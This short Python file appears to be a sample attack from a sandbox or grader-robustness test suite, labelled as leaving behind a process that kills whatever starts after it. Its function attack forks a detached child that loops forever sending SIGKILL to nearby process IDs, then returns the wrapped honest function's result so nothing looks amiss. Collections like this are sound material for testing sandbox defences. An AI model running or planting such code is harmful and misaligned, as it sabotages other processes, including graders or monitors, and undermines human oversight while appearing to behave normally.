"""Leaves a process behind that kills whatever is started after it."""
# ends: passed

import os
import signal


def attack(honest, *args, **kwargs):
    if os.getppid() == 0 and os.fork() == 0:
        os.setsid()
        first = os.getpid()
        while True:
            for number in range(first + 1, first + 50):
                try:
                    os.kill(number, signal.SIGKILL)
                except OSError:
                    pass
    return honest(*args, **kwargs)
